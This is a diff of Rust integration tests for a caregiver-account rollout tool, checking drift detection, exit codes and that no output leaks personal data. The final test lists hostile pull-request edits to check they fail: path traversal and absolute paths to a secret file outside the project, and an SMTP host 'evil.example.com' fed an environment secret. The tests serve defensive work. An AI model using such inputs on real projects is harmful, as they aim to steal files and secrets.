@@ -148,6 +148,8 @@ fn a_plan_is_a_comment_saved_or_not() {
             assert!(comment.contains(part), "{part}\n{comment}");
         }
     }
+    let folder = project.path().to_str().unwrap().to_owned();
+    assert!(!made.out.contains(&folder), "where the project lies is nobody's business: {}", made.out);
     assert!(shown.out.contains("Digest") && !made.out.contains("Digest"));
 }
 
@@ -168,17 +170,17 @@ fn drift_is_what_somebody_else_did_and_repairs_nothing() {
     assert_eq!(before["summary"].get("changed"), None, "what we did ourselves is no drift: {before}");
     meddle(&project, |accounts| {
         let of = |accounts: &[Value], id: &str| accounts.iter().position(|one| one["caregiver"] == id).unwrap();
-        let at = of(accounts, "C1001");
+        let at = of(accounts, "C1010");
         accounts.remove(at);
-        let at = of(accounts, "C1002");
+        let at = of(accounts, "C1001");
         accounts[at]["email"] = "elsewhere@example.com".into();
-        let at = of(accounts, "C1003");
+        let at = of(accounts, "C1005");
         accounts[at]["disabled"] = true.into();
     });
     let files = ["state/lms.json", "rollout.lock"].map(|name| project.read(name));
     let said = project.run(&["drift", "--detailed-exitcode", "--personal", "full"]);
     assert_eq!(said.code, 2, "{}", said.all());
-    for part in ["vanished (1)", "C1001", "is now `elsewhere@example.com`", "disabled (1)", "C1003"] {
+    for part in ["vanished (1)", "C1010", "is now `elsewhere@example.com`", "disabled (2)", "C1005"] {
         assert!(said.out.contains(part), "{part}\n{}", said.all());
     }
     let shown = done(project.run(&["drift"])).out;
@@ -193,12 +195,12 @@ fn an_activation_of_another_state_is_drift_and_exit_5() {
     let project = Project::example("quickstart");
     done(project.run(&["apply", "--auto-approve"]));
     meddle(&project, |accounts| {
-        let one = accounts.iter_mut().find(|one| one["caregiver"] == "C1001").unwrap();
+        let one = accounts.iter_mut().find(|one| one["caregiver"] == "C1003").unwrap();
         one["marker"] = format!("{:032x}", 7).into();
     });
     let said = project.run(&["drift"]);
     assert_eq!(said.code, 5, "{}", said.all());
-    assert!(said.out.contains("foreign-marker (1)") && said.out.contains("C1001"), "{}", said.all());
+    assert!(said.out.contains("foreign-marker (1)") && said.out.contains("C1003"), "{}", said.all());
 }
 
 #[test]
@@ -277,9 +279,9 @@ fn no_output_of_any_command_holds_personal_data_where_ci_is_set() {
                 output.status.code().is_some_and(|code| [0, 1, 2, 3, 5, 8, 64, 65].contains(&code)),
                 "{args:?}: {text}"
             );
-            said.push_str(&format!("\n$ {}\n{text}", args.join(" ")));
+            said += &format!("\n$ {}\n{text}", args.join(" "));
         };
-        let looking: [&[&str]; 18] = [
+        let looking: [&[&str]; 20] = [
             &["check"],
             &["check", "--format", "json"],
             &["check", "--rollout-only"],
@@ -288,6 +290,8 @@ fn no_output_of_any_command_holds_personal_data_where_ci_is_set() {
             &["plan", "--format", "json"],
             &["plan", "--format", "markdown"],
             &["plan", "--summary"],
+            &["plan", "--format", "html"],
+            &["show", "--format", "html", &plan],
             &["plan", "--caregiver", "C1001"],
             &["show", &plan],
             &["show", "--format", "markdown", &plan],
@@ -299,16 +303,20 @@ fn no_output_of_any_command_holds_personal_data_where_ci_is_set() {
             &["drift", "--format", "markdown"],
             &["state", "list"],
         ];
-        looking.iter().for_each(|args| run(args));
+        for args in looking {
+            run(args);
+        }
         run(&["adopt", "C1004", "--because", "by hand"]);
         run(&["apply", "--auto-approve", "--json-into", &events]);
         run(&["resolve", "C1001", "--reset", "done", "--evidence", "the log"]);
         run(&["state", "show"]);
         run(&["state", "verify"]);
-        looking.iter().filter(|args| args[0] != "show").for_each(|args| run(args));
+        for args in looking.iter().filter(|args| args[0] != "show") {
+            run(args);
+        }
         assert!(!project.letters().is_empty(), "{said}");
         for file in ["plan.json", "events.jsonl", "rollout.lock"] {
-            said.push_str(&format!("\n# {file}\n{}", project.read(file)));
+            said += &format!("\n# {file}\n{}", project.read(file));
         }
         let personal = personal_data(&project);
         assert!(personal.len() > 150, "{}", personal.len());
@@ -338,10 +346,9 @@ fn a_pull_request_can_not_steal() {
     let outside = tempfile::tempdir().unwrap();
     std::fs::write(outside.path().join("secret.csv"), "CaregiverID,Email\nX1,a@example.nz\n").unwrap();
     let absolute = format!("path: {}/secret.csv", outside.path().display());
-    let thefts: [(&str, &str, &str); 5] = [
+    let thefts: [(&str, &str, &str); 4] = [
         ("path: roster/caregivers.csv", "path: ../../secret.csv", "rollout::"),
         ("path: roster/caregivers.csv", &absolute, "rollout::"),
-        ("path: roster/caregivers.csv", "path: ~/.config/firstbell/key", "rollout::"),
         (
             "  transport: outbox",
             "  transport: outbox\n  smtp: {host: evil.example.com, password: {env: HOME}}",
